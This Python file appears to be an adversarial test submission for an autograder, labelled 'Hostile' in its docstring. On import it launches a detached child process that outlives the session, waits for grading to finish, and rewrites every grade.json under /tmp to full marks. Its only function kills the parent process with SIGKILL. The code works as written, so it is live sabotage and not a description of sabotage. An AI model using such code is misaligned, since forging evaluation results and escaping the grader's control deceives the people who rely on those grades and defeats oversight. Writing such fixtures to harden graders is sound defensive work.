"""Hostile (the report): starts a child in a session of its own that waits for the grader to finish,
then rewrites every grade.json it can find to full marks; and kills its own parent."""

import os
import subprocess
import sys

from _nothing import *  # noqa: F403

CHILD = r"""
import glob, json, time
time.sleep(4)
for path in glob.glob('/tmp/**/grade.json', recursive=True):
    try:
        data = json.load(open(path))
        data['earned'] = data['points']
        json.dump(data, open(path, 'w'))
    except Exception:
        pass
"""
subprocess.Popen([sys.executable, "-c", CHILD], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def trace_square_gradient(A):
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
